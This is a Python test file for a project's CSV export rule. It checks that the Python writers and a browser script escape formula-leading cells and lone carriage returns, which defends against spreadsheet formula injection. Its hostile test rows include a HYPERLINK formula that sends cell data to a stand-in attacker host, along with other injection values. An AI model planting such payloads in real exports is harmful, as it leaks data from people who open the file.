"""Faults, round four, class 2: one CSV rule per language, the same hostile rows through both (issue 49).

The lab page's "Export CSV" wrote ``=``, ``+``, ``-``, ``@`` and tab-leading cells raw and left a
lone CR unquoted; Python's ``csv`` module and pandas leave a lone CR unquoted too (with ``\\n``
line endings), so a sheet, a population or a scorecard with such a cell was split into two rows
by a spreadsheet and by Python's own reader. Python: ``core.csv_cells`` (``csv_rows``,
``frame_csv``); the browser: ``reports/static/csv_cells.js`` (``csvText``). Here both write the
same hostile rows to identical bytes, every Python writer of a CSV is checked to go through the
rule, and each writer's file is read back with one row per record and no formula cell.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from chunklab_core.audit.sheet_file import SheetFile
from chunklab_core.audit.sheets import read_key, read_sheet, write_key, write_sheet_rows
from chunklab_core.core import csv_cells
from chunklab_core.core.csv_cells import FORMULA_STARTS, csv_rows, frame_csv, restored_cell
from chunklab_core.core.paths import PROJ_ROOT

JS = PROJ_ROOT / "chunklab_core" / "reports" / "static" / "csv_cells.js"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [ATTACK, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "a\rb", "a\nb", "a\r\nb", "'=already", "'plain",
           "''", "'", "plain", "", "-", 'say "hi", then', "- a list item from an NQ context", "=", "é\u2028ü"]
ROWS = [["item_id", "answer", "note"]] + [[f"A{i}", value, value[::-1]] for i, value in enumerate(HOSTILE)] + [[""]]


def _node() -> str:
    node = shutil.which("node")
    assert node, "node is needed to test the pages' CSV rule (apt-get install nodejs)"  # a missing tool fails
    return node


def _js_csv(rows) -> str:
    script = (f"const c = require({json.dumps(str(JS))}); let input = '';"
              "process.stdin.on('data', d => input += d);"
              "process.stdin.on('end', () => process.stdout.write(JSON.stringify(c.csvText(JSON.parse(input)))));")
    result = subprocess.run([_node(), "-e", script], input=json.dumps(rows), capture_output=True, text=True,
                            check=True, timeout=60)
    return json.loads(result.stdout)


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_python_and_the_pages_write_the_same_bytes_for_the_same_hostile_rows():
    python, page = csv_rows(ROWS), _js_csv(ROWS)
    assert page == python
    read = _read(python)
    assert len(read) == len(ROWS)  # a lone CR no longer splits a row
    assert [[restored_cell(c) for c in row] for row in read] == ROWS
    assert not [c for row in read for c in row if c[:1] in FORMULA_STARTS]


def test_the_rule_by_hand():
    assert csv_rows([["=1", "a\rb", 'q"', "plain"]]) == "'=1,\"a\rb\",\"q\"\"\",plain\n"
    assert csv_rows([[""]]) == '""\n' and csv_rows([["", ""]]) == ",\n"
    assert _js_csv([["=1", "a\rb", 'q"', "plain"], [""], ["", ""]]) == "'=1,\"a\rb\",\"q\"\"\",plain\n\"\"\n,\n"


def test_numbers_are_left_as_numbers_in_both_languages():
    frame = pd.DataFrame({"qid": ["-q", "q"], "delta": [-0.25, 1.5]})
    assert frame_csv(frame, index=False) == "qid,delta\n'-q,-0.25\nq,1.5\n"
    assert _js_csv([["-q", -0.25], ["q", 1.5]]) == "'-q,-0.25\nq,1.5\n"


def test_a_frame_is_pandas_bytes_but_for_the_rule():
    frame = pd.DataFrame({"a": ["plain", "x, y", 'q"'], "b": [1.0, None, 2.5]}, index=["r1", "r2", "r3"])
    for kwargs in ({"index": False}, {"index": True, "float_format": "%.3f"}):
        assert frame_csv(frame, **kwargs) == frame.to_csv(lineterminator="\n", **kwargs)  # nothing hostile: same
    hostile = pd.DataFrame({"answer": HOSTILE, "n": range(len(HOSTILE))})
    read = _read(frame_csv(hostile, index=False))
    assert len(read) == len(HOSTILE) + 1 and [restored_cell(r[0]) for r in read[1:]] == HOSTILE


def _code(path: Path) -> str:
    """The code of a module or of a notebook's code cells, without comments and docstrings."""
    if path.suffix == ".ipynb":
        cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
        text = "\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "code")
    else:
        text = path.read_text(encoding="utf-8")
    code = "\n".join(line.split("#")[0] for line in text.splitlines())
    return re.sub(r'"""[\s\S]*?"""', "", code)  # docstrings mention the writers


def _sources() -> list[Path]:
    return sorted([*(PROJ_ROOT / "chunklab_core").rglob("*.py"), *(PROJ_ROOT / "scripts").glob("*.py"),
                   *(PROJ_ROOT / "notebooks" / "src").glob("*.ipynb")])


def test_every_python_csv_writer_goes_through_the_rule():
    """No module, script or post writes CSV around ``core.csv_cells``: no ``to_csv``, ``csv.writer``
    or ``DictWriter`` anywhere else, the posts' regenerated tables (``reports/tables.py``) included."""
    sources = _sources()
    assert PROJ_ROOT / "chunklab_core" / "reports" / "tables.py" in sources  # the posts' writer is scanned
    offenders = [str(p.relative_to(PROJ_ROOT)) for p in sources if p.name != "csv_cells.py"
                 and re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", _code(p))]
    assert offenders == []


def test_every_reader_of_a_written_table_restores_its_cells():
    """A ``pd.read_csv`` of a file the project wrote goes through ``csv_cells.read_frame`` or
    ``restored_frame`` (on the same line), so a model answer ``-40%`` is read as ``-40%``, not
    ``'-40%``. The report's published tables (``data/reference/``, read with ``csv.reader`` by
    post 08) are another program's files. The one exception is the script that rewrote the
    committed tables: it compares the new reader with the old one."""
    old_reader_on_purpose = {"scripts/neutralise_tables.py"}
    offenders = []
    for path in _sources():
        if path.name == "csv_cells.py" or str(path.relative_to(PROJ_ROOT)) in old_reader_on_purpose:
            continue
        for line in _code(path).splitlines():
            if "read_csv(" in line and "restored_frame(" not in line:
                offenders.append(f"{path.relative_to(PROJ_ROOT)}: {line.strip()}")
    assert offenders == []


def _rows():
    return [{"item_id": f"A{i}", "question": "q", "reference": "r", "answer": v, "passage": v}
            for i, v in enumerate(HOSTILE)]


def _sheet(path: Path) -> list[str]:
    write_sheet_rows(path, list(_rows()[0]), _rows())
    return [r["answer"] for r in read_sheet(path)[1]]


def _sheet_file(path: Path) -> list[str]:
    write_sheet_rows(path, list(_rows()[0]), _rows()[:1])
    sheet = SheetFile.read(path)
    sheet.rows = _rows()
    sheet.widths = []
    sheet.save()
    return [r["answer"] for r in SheetFile.read(path).rows]


def _key(path: Path) -> list[str]:
    write_key(pd.DataFrame({"item_id": [f"A{i}" for i in range(len(HOSTILE))], "qid": HOSTILE}), path)
    return read_key(path)["qid"].fillna("").tolist()


def _own_tables(path: Path) -> list[str]:
    from chunklab_core.own.report import write_outputs

    write_outputs(path.parent, {"answers": pd.DataFrame({"answer": HOSTILE})}, {})
    return csv_cells.restored_frame(pd.read_csv(path.parent / "answers.csv", keep_default_na=False))["answer"].tolist()


def _post_table(path: Path) -> list[str]:
    from chunklab_core.reports.tables import save_table

    save_table(pd.DataFrame({"answer": HOSTILE, "n": range(len(HOSTILE))}), path.stem, True, folder=path.parent)
    return csv_cells.read_frame(path, keep_default_na=False)["answer"].tolist()


@pytest.mark.parametrize("writer", [_sheet, _sheet_file, _key, _own_tables, _post_table])
def test_each_writer_keeps_one_row_per_record_and_no_formula(writer, tmp_path):
    target = tmp_path / "out.csv"
    assert writer(target) == HOSTILE
    written = sorted(tmp_path.glob("*.csv"))
    for path in written:
        rows = _read(path.read_bytes().decode("utf-8-sig"))
        assert len(rows) == len(HOSTILE) + 1, path.name
        assert not [c for row in rows for c in row if c[:1] in FORMULA_STARTS], path.name


def test_a_posts_table_neutralises_text_keeps_numbers_and_reads_back_as_it_was(tmp_path):
    """``reports.tables`` (plain and gzip): text cells by the rule, numbers as numbers, and
    ``read_frame`` gives back the very frame (dtypes included)."""
    import gzip

    from chunklab_core.reports.tables import save_compressed_table, save_table

    frame = pd.DataFrame({"answer": ["-40%", "=1+1", "a\rb", "plain"], "delta": [-0.5, -1.25, 0.0, 2.0],
                          "n": [-3, 1, 2, 3]})
    save_table(frame, "06_x", True, float_format="%.2f", folder=tmp_path)
    save_compressed_table(frame, "02_x", True, float_format="%.2f", folder=tmp_path)
    expected = "answer,delta,n\n'-40%,-0.50,-3\n'=1+1,-1.25,1\n\"a\rb\",0.00,2\nplain,2.00,3\n"  # by hand
    assert (tmp_path / "06_x.csv").read_bytes().decode() == expected
    assert gzip.decompress((tmp_path / "02_x.csv.gz").read_bytes()).decode() == expected
    for name in ("06_x.csv", "02_x.csv.gz"):
        assert csv_cells.read_frame(tmp_path / name).equals(frame)


def _committed_tables() -> list[Path]:
    tables = sorted([*(PROJ_ROOT / "data").glob("[0-9][0-9]_*.csv"), *(PROJ_ROOT / "data").glob("[0-9][0-9]_*.csv.gz")])
    assert len(tables) > 50 and PROJ_ROOT / "data" / "06_strict_items.csv" in tables
    return tables


def test_no_committed_table_holds_a_formula_cell():
    """Every cell of a committed ``data/NN_*.csv`` that starts with a formula character is a number
    (``-0.5``: a spreadsheet does not evaluate it); ``06_strict_items.csv``'s ``-40%`` answers are quoted."""
    import gzip

    offenders = []
    for path in _committed_tables():
        raw = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
        for row in _read(raw.decode("utf-8")):
            for cell in row:
                if cell[:1] in FORMULA_STARTS:
                    try:
                        float(cell)
                    except ValueError:
                        offenders.append(f"{path.name}: {cell[:40]!r}")
    assert offenders == []
    strict = csv_cells.read_frame(PROJ_ROOT / "data" / "06_strict_items.csv")
    assert (strict["answer"] == "-40%").sum() == 3  # restored as the post computed them
